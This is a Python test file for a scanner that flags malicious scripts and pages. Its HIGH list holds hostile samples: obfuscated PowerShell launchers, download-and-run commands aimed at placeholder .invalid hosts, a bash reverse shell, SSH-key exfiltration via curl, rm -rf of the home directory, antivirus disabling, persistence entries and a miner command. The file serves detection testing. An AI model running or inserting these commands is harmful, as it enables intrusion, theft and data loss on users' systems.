"""What a reader is told of scripts and pages. Nothing here is run; addresses end in .invalid."""

import base64

import pytest

from core.findings import Level
from tests.core.scanning.examining import levels, look_at


def utf16(text: str) -> str:
    return base64.b64encode(text.encode("utf-16le")).decode()


ALPHABET = "set x=abcdefghijklmnopqrstuvwxyz\r\n"
HIGH = [
    ("code-hidden-command", "a.bat", '@echo off\r\nset a=pow\r\nset b=ershell\r\n%a%%b% -w hidden -c "echo hi"\r\n'),
    ("code-hidden-command", "a.bat", f"@echo off\r\np^ow^ersh^ell -e^nc {utf16('Write-Host hello')}\r\n"),
    ("code-hidden-command", "a.bat", ALPHABET + "set w=%x:~15,1%owershell\r\n%w% -windowstyle hidden echo\r\n"),
    ("code-download-and-run", "a.bat", "curl -o %TEMP%\\u.exe https://x.invalid/u.exe\r\nstart %TEMP%\\u.exe\r\n"),
    ("code-download-and-run", "a.bat", "certutil -urlcache -f https://x.invalid/a a.exe\r\n"),
    ("code-download-and-run", "a.cmd", "mshta https://x.invalid/a.hta\r\n"),
    ("code-autostart", "a.bat", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y\r\n"),
    ("code-autostart", "a.bat", "schtasks /create /tn x /tr y /sc onlogon\r\n"),
    ("code-protection-off", "a.bat", "powershell Add-MpPreference -ExclusionPath C:\\\r\n"),
    ("code-download-and-run", "a.ps1", "iex (New-Object Net.WebClient).DownloadString('https://x.invalid/a')"),
    ("code-download-and-run", "a.ps1", "$a='ht'+'tps://x.invalid';$c='i'+'ex'; & $c (iwr $a)"),
    ("code-download-and-run", "a.ps1", "('{1}{0}'-f'ex','i')|&{ & $input (irm x.invalid)}"),
    ("code-download-and-run", "a.ps1", "$x=([char]105+[char]101+[char]120)\n. $x (irm https://x.invalid/a)"),
    (
        "code-download-and-run",
        "a.ps1",
        "$s=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWV4IChpd3IgaHR0cDovL3guaW52YWxpZCk='))\niex $s",  # noqa: E501  one line of source
    ),
    (
        "code-download-and-run",
        "a.ps1",
        "Invoke-WebRequest https://x.invalid/a.exe -OutFile $env:TEMP\\a.exe\nStart-Process $env:TEMP\\a.exe",
    ),
    ("code-protection-off", "a.ps1", "Set-MpPreference -DisableRealtimeMonitoring $true"),
    (
        "code-hidden-command",
        "a.vbs",
        'Set s=CreateObject("WScript.Shell")\r\ns.Run "powershell -w hidden -c x",0,False',
    ),
    ("code-decode-and-run", "a.vbs", 'Dim a\r\nExecute(Chr(77)&Chr(115)&Chr(103)&"Box 1")'),
    (
        "code-hidden-command",
        "a.vbs",
        'Dim x\r\nx=StrReverse("neddih w- llehsrewop")\r\nCreateObject("WScript.Shell").Run x',
    ),
    ("code-download-and-run", "a.sh", "#!/bin/bash\ncurl -s https://x.invalid/a.sh | bash\n"),
    ("code-download-and-run", "a.sh", "#!/bin/bash\na=cu;b=rl;$a$b https://x.invalid/x|sh\n"),
    (
        "code-download-and-run",
        "a.sh",
        "#!/bin/bash\nwget https://x.invalid/x -O /tmp/tool\nchmod +x /tmp/tool\n/tmp/tool\n",
    ),
    ("code-decode-and-run", "a.sh", "#!/bin/sh\necho Y3VybCBodHRwOi8veC5pbnZhbGlkfHNo | base64 -d | sh\n"),
    ("code-reverse-shell", "a.sh", "#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/44 0>&1\n"),
    ("code-secrets", "a.sh", "#!/bin/bash\ncat ~/.ssh/id_rsa | curl -d @- https://x.invalid\n"),
    ("code-destroys", "a.sh", "#!/bin/bash\nrm -rf ~/\n"),
    ("code-mines", "a.sh", "#!/bin/bash\n./xmrig -o stratum+tcp://x.invalid:1\n"),
    ("code-decode-and-run", "a.js", "eval(atob('YWxlcnQoMSk='))"),
    ("code-decode-and-run", "a.js", "eval(String.fromCharCode(97,108,101,114,116))"),
    ("code-hidden-command", "a.js", "var s=new ActiveXObject('WScript.Shell');s.Run('powershell -w hidden x')"),
    (
        "code-page-attack",
        "a.html",
        "<html><script>var b=new Blob([atob('TVqQ')]);var a=document.createElement('a');a.download='x.exe'</script></html>",  # noqa: E501  one line of source
    ),
    (
        "code-autostart",
        "a.reg",
        "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n",  # noqa: E501  one line of source
    ),
    ("code-far-right", "a.bat", "@echo off" + " " * 200 + "& echo hi\r\n"),
]


@pytest.mark.parametrize(("rule", "path", "source"), HIGH)
def test_an_attack_is_called_dangerous(rule: str, path: str, source: str) -> None:
    found = levels(look_at(path, source))
    assert found.get(rule) is Level.HIGH, found


ORDINARY = [
    (
        "run.sh",
        "#!/bin/bash\nset -e\nexport CUDA_VISIBLE_DEVICES=0\ntorchrun --nproc_per_node=8 train.py --lr 1e-4 \\\n  --x 3\n",  # noqa: E501  one line of source
    ),
    (
        "get.sh",
        "#!/bin/bash\ncurl -L -o model.bin https://huggingface.co/a/b/resolve/main/model.bin\npip install -r r.txt\n",
    ),
    (
        "get.sh",
        "#!/bin/bash\nwget https://a.example/data.tar.gz -O data.tar.gz\ntar xzf data.tar.gz\npython train.py\n",
    ),
    ("words.sh", "cut -f3 -d' ' \"$line\" | tr '\\n' ' ' | perl -ape 's: *$:\\n:;' > words.txt\n"),
    ("words.js", "const built_in = 'gwmi h history icm iex ihy ii ipal ipcsv ipmo irm ise iwmi iwr'.split(' ');\n"),
    ("plot.js", "var n=t.make(t.SOURCE).source,r=e.resolve===`shared`,i=e.field||tr,a=u(e.opacity,e);\n"),
    ("Makefile", "all:\n\tpython train.py\n"),
    ("Dockerfile", "FROM python:3.11\nRUN pip install torch\n"),
    ("demo.js", "import {pipeline} from '@x/transformers';\nconst p = await pipeline('x');\nconsole.log(p)\n"),
    ("report.html", "<html><script src='https://cdn.example/plotly.js'></script></html>"),
    ("page.html", "<html><body><p>hello</p></body></html>"),
    ("logo.svg", "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>"),
]


@pytest.mark.parametrize(("path", "source"), ORDINARY)
def test_ordinary_scripts_and_pages_come_out_quiet(path: str, source: str) -> None:
    found = levels(look_at(path, source))
    assert set(found.values()) <= {Level.NOTE}, found


@pytest.mark.parametrize(
    ("path", "source"),
    [
        ("start.bat", "@echo off\r\npython loader.py\r\n"),
        ("start.ps1", "Write-Host 'Installing'\npip install torch\n"),
        ("logo.svg", "<svg onload='alert(1)'></svg>"),
        ("setup.sh", "#!/bin/sh\nwget https://raw.githubusercontent.com/x/y/i.sh\nbash i.sh\n"),
        ("clean.bat", '@echo off\r\ndel "%~f0"\r\n'),
        (
            "legal.reg",
            'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_LOCAL_MACHINE\\A\\Winlogon]\r\n"Text"="x"\r\n',
        ),
        ("run.vbs", 'Set s = CreateObject("WScript.Shell")\r\ns.Run "venv\\Scripts\\python.exe app.py", 1, False\r\n'),
        ("page.vbs", 'CreateObject("WScript.Shell").Run "http://127.0.0.1:7860", 1\r\n'),
        ("whole.vbs", 'CreateObject("WScript.Shell").Run """C:\\Program Files\\Python\\python.exe"" app.py", 1\r\n'),
        ("start.vbs", 'CreateObject("WScript.Shell").Run "cmd /c run.bat", 1\r\n'),
        ("old.bat", 'forfiles /p logs /d -30 /c "cmd /c del @path"\r\nicacls data /grant Users:R\r\nnet user\r\n'),
        ("admin.ps1", "Write-Host x\nStart-Process x.exe -Verb RunAs"),
        ("bypass.bat", "@echo off\r\npowershell -ExecutionPolicy Bypass -File x.ps1\r\n"),
        ("tell.sh", "#!/bin/sh\ncurl -d done https://hooks.slack.com/services/x\n"),
    ],
)
def test_what_windows_runs_on_a_click_and_single_oddities_ask_for_care(path: str, source: str) -> None:
    found = levels(look_at(path, source))
    assert max(found.values(), key=[Level.NOTE, Level.CAREFUL, Level.HIGH].index) is Level.CAREFUL, found


def test_a_command_in_a_comment_is_not_run() -> None:
    found = levels(look_at("a.sh", "#!/bin/sh\n# curl https://x.invalid/a.sh | sh\necho hi\n"))
    assert "code-download-and-run" not in found


def test_two_odd_things_together_are_an_attack() -> None:
    source = '@echo off\r\npowershell -ep bypass -File x.ps1\r\ndel "%~f0"\r\n'
    assert levels(look_at("a.bat", source))["code-together"] is Level.HIGH


@pytest.mark.parametrize(
    "source", ["%" * 9000, "$" * 9000 + "(", "`" * 5000, "a=" * 4000, "\\x41" * 3000, "'" + "A" * 70000 + "'"]
)
def test_no_line_takes_long_or_breaks_the_reading(source: str) -> None:
    for name in ("a.bat", "a.ps1", "a.sh", "a.vbs", "a.js"):
        assert look_at(name, source).reason is None or look_at(name, source).reason.id != "scan.scanner_failed"  # type: ignore[union-attr]
